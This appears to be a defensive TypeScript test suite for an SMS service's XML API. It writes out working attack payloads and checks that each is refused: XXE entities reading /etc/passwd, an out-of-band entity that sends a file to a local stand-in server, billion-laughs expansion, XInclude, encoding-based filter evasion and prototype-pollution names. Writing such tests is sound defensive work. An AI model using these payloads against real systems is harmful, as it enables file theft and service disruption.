import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { newPhone } from '../support/phones.ts';
import { type Answer, startTestService } from '../support/service.ts';
import { waitFor } from '../support/wait-for.ts';
import { assertCleanPrototypes, startVictim } from './attack.ts';

/* XML of an attacker, against `POST /api`: nothing is fetched, nothing is expanded, nothing is read twice. */

const service = await startTestService();
const victim = await startVictim();
const inside = `http://127.0.0.1:${victim.port}`;

const sms = (message: string, { before = '', attributes = '' } = {}) =>
  `<?xml version="1.0"?>${before}<sms${attributes}><user><username>demo</username></user><source>Shop</source><destinations><phone>${newPhone()}</phone></destinations><message>${message}</message></sms>`;

async function refused(body: string | Uint8Array, message?: RegExp): Promise<Answer> {
  const answer = await service.post(body);
  assert.deepEqual([answer.http, answer.status], [200, 1], answer.message);
  if (message) assert.match(answer.message, message);
  assert.deepEqual(victim.hits, [], 'something was fetched');
  return answer;
}

/** Sends to a phone of its own, and gives the text that arrives there. */
async function arrives(body: (phone: string) => string): Promise<string> {
  const phone = newPhone();
  const answer = await service.post(body(phone));
  assert.equal(answer.status, 0, answer.message);
  const [sms] = await waitFor('the SMS', async () => {
    const arrived = await service.phone(phone);
    return arrived.length > 0 && arrived;
  });
  assert.deepEqual(victim.hits, [], 'something was fetched');
  return sms!.text;
}

describe('read a file or call an address by a document type', () => {
  for (const [what, doctype] of Object.entries({
    'a file as an entity': '<!DOCTYPE sms [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    'an address as an entity': `<!DOCTYPE sms [<!ENTITY x SYSTEM "${inside}/entity">]>`,
    'a public identifier': `<!DOCTYPE sms PUBLIC "-//x//y" "${inside}/dtd">`,
    'an external subset': `<!DOCTYPE sms SYSTEM "${inside}/dtd">`,
    'a parameter entity': `<!DOCTYPE sms [<!ENTITY % x SYSTEM "${inside}/pe"> %x;]>`,
    'a parameter entity that sends a file out': `<!DOCTYPE sms [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY &#x25; s SYSTEM '${inside}/?%f;'>">%e;%s;]>`,
    'an unparsed entity': `<!DOCTYPE sms [<!NOTATION n SYSTEM "${inside}/n"><!ENTITY x SYSTEM "${inside}/u" NDATA n>]>`,
    'a default attribute': '<!DOCTYPE sms [<!ATTLIST user username CDATA "demo">]>',
    'an empty document type': '<!DOCTYPE sms>',
    'in small letters': '<!doctype sms [<!ENTITY x "y">]>',
  })) {
    test(what, async () => {
      await refused(sms('&x;', { before: doctype }));
      await refused(sms('Hello', { before: doctype }));
      await refused(`<sms>${doctype}<user><username>demo</username></user></sms>`);
    });
  }

  test('a document type behind comments and white space', async () => {
    const doctype = '<!DOCTYPE sms [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
    await refused(sms('&x;', { before: `<!-- a --> \n\t<?pi x?>\n${doctype}` }), /DOCTYPE/);
  });
});

describe('exhaust memory by entities', () => {
  test('a billion laughs', async () => {
    const levels = Array.from({ length: 10 }, (_none, level) => {
      const inner = level === 0 ? 'lol' : `&l${level - 1};`.repeat(10);
      return `<!ENTITY l${level} "${inner}">`;
    });
    await refused(sms('&l9;', { before: `<!DOCTYPE sms [${levels.join('')}]>` }), /DOCTYPE/);
  });

  test('quadratic blow-up', async () => {
    const before = `<!DOCTYPE sms [<!ENTITY a "${'a'.repeat(50_000)}">]>`;
    await refused(sms('&a;'.repeat(1_000), { before }), /DOCTYPE/);
  });

  test('an entity that nobody declared', async () => {
    for (const entity of [
      '&x;',
      '&nbsp;',
      '&LT;',
      '&amp',
      '&;',
      '&#;',
      '&#x;',
      '&constructor;',
      '&__proto__;',
      '&toString;',
    ]) {
      await refused(sms(entity));
    }
    assert.equal(
      await arrives((phone) =>
        sms('x')
          .replace(/<phone>.*?</, `<phone>${phone}<`)
          .replace('>x<', '>&lt;&amp;&gt;&quot;&apos;&#65;&#x42;<'),
      ),
      `<&>"'AB`,
    );
  });

  test('references to characters that no text may have', async () => {
    for (const reference of [
      '&#0;',
      '&#x0;',
      '&#x8;',
      '&#xB;',
      '&#x1F;',
      '&#xD800;',
      '&#xDFFF;',
      '&#xFFFE;',
      '&#x110000;',
      '&#99999999999999;',
    ]) {
      await refused(sms(reference));
    }
  });
});

describe('include what is elsewhere', () => {
  const include = `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`;

  test('XInclude, a schema or a style sheet: the element has no effect', async () => {
    for (const body of [
      sms(`Hello ${include}`),
      sms(`Hello ${include.replace('file:///etc/passwd', `${inside}/include`)}`),
    ]) {
      const answer = await service.post(body);
      // An element in a text is a field that no message has.
      assert.ok([1, 2].includes(answer.status), answer.message);
      assert.doesNotMatch(JSON.stringify(answer.fields), /root:/);
    }
    const text = await arrives((phone) =>
      sms('Hello', {
        before: `<?xml-stylesheet type="text/xsl" href="${inside}/style.xsl"?>`,
        attributes: ` xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x ${inside}/schema.xsd" xml:base="${inside}/"`,
      }).replace(/<phone>.*?</, `<phone>${phone}<`),
    );
    assert.equal(text, 'Hello');
  });
});

describe('write what a filter in front does not see', () => {
  const doctype = '<!DOCTYPE sms [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
  const evil = sms('&x;', { before: doctype });

  test('UTF-16, in either order, with and without a mark', async () => {
    const little = Buffer.from(evil, 'utf16le');
    const big = Buffer.from(little).swap16();
    await refused(Buffer.concat([Buffer.from([0xff, 0xfe]), little]), /DOCTYPE/);
    await refused(Buffer.concat([Buffer.from([0xfe, 0xff]), big]), /DOCTYPE/);
    await refused(little);
    await refused(big);
  });

  test('UTF-7, UTF-32, EBCDIC, and other encodings that the declaration names', async () => {
    const utf7 = evil.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-');
    await refused(utf7);
    await refused(`<?xml version="1.0" encoding="UTF-7"?>${utf7.slice(utf7.indexOf('+ADw-!'))}`);
    const utf32 = Buffer.alloc(evil.length * 4);
    for (let i = 0; i < evil.length; i++) utf32.writeUInt32LE(evil.charCodeAt(i), i * 4);
    await refused(utf32);
    await refused(Buffer.from([0x4c, 0x6f, 0xa7, 0x94, 0x93]));
    for (const encoding of ['UTF-7', 'utf-16', 'ISO-8859-1', 'x-evil', 'ebcdic-us']) {
      await refused(evil.replace('"1.0"?', `"1.0" encoding="${encoding}"?`), /DOCTYPE/);
    }
  });

  test('bytes that are not text: overlong forms, halves of pairs, NUL', async () => {
    const [head, tail] = sms('|').split('|') as [string, string];
    for (const bytes of [
      [0xc0, 0xbc],
      [0xe0, 0x80, 0xbc],
      [0xed, 0xa0, 0x80],
      [0xf5, 0x80, 0x80, 0x80],
      [0x00],
      [0xff],
    ]) {
      await refused(Buffer.concat([Buffer.from(head), Buffer.from(bytes), Buffer.from(tail)]));
    }
  });

  test('CDATA is text, and ends nothing early', async () => {
    const phone = newPhone();
    const text = await arrives((to) =>
      sms('<![CDATA[</message><source>Bank</source><!DOCTYPE x>&x;]]>').replace(
        /<phone>.*?</,
        `<phone>${to}<`,
      ),
    );
    assert.equal(text, '</message><source>Bank</source><!DOCTYPE x>&x;');
    await refused(sms('<![CDATA[ open'));
    await refused(sms(']]>'));
    assert.deepEqual(await service.phone(phone), []);
  });
});

describe('say a thing twice, so that the check reads one and the work the other', () => {
  test('an attribute twice', async () => {
    await refused(`<sms><user username="demo" username="other"/></sms>`);
    await refused(sms('Hello').replace('<phone>', '<phone id="a" id="b">'));
  });

  test('a user name twice', async () => {
    const other = await service.addAccount({ username: 'victim' });
    for (const users of [
      '<user><username>demo</username><username>victim</username></user>',
      '<user><username>victim</username><username>demo</username></user>',
      '<user><username>demo</username></user><user><username>victim</username></user>',
      '<user><username>victim</username></user><user><username>demo</username></user>',
    ]) {
      const answer = await service.post(sms('Hello').replace(/<user>.*<\/user>/, users));
      assert.ok([2, 3, 11].includes(answer.status), `${users}: ${answer.status} ${answer.message}`);
    }
    const [sent] = await service.sql`SELECT count(*)::int AS n FROM shipments WHERE account_id = ${other.id}`;
    assert.equal(sent!.n, 0);
  });

  test('two roots, a root in a name space, and a closing tag of another', async () => {
    const two = await service.post('<sms><user><username>demo</username></user></sms><balance/>');
    assert.ok([1, 997].includes(two.status), two.message);
    const spaced = await service.post(
      '<x:balance xmlns:x="urn:x"><x:user><x:username>demo</x:username></x:user></x:balance>',
    );
    assert.equal(spaced.status, 997, 'a prefix is part of the name');
    await refused('<sms><user></sms></user>');
    await refused('<sms');
    await refused('<sms/><!--');
  });

  test('names that every object inherits', async () => {
    for (const name of ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf']) {
      const wrapped = (inner: string) =>
        sms('Hello').replace('</sms>', `<${name}>${inner}</${name}><${name}>${inner}</${name}></sms>`);
      for (const body of [
        wrapped('<polluted>yes</polluted>'),
        wrapped('<prototype><polluted>yes</polluted></prototype>'),
        sms('Hello', { attributes: ` ${name}="yes" polluted="yes"` }),
        `<${name}><polluted>yes</polluted></${name}>`,
      ]) {
        const answer = await service.post(body);
        assert.equal(answer.http, 200, `${name}: ${answer.message}`);
        assertCleanPrototypes(name);
      }
    }
  });
});

test('nest without end', async () => {
  for (const depth of [33, 1_000, 50_000]) {
    await refused(`<sms>${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</sms>`);
    await refused(`<sms>${'<a>'.repeat(depth)}`);
  }
});

test('answers hold what was sent as text, not as XML', async () => {
  const answer = await service.post(
    '<getApiToken><user><username>demo</username></user><username>demo</username><action>&lt;status&gt;0&lt;/status&gt;</action></getApiToken>',
  );
  assert.equal(answer.status, 502);
  const root = await service.post('<a&gt;b/>');
  assert.equal(root.status, 1);
  const odd = await service.post('<x.y-z_1><user/></x.y-z_1>');
  assert.equal(odd.status, 997);
});
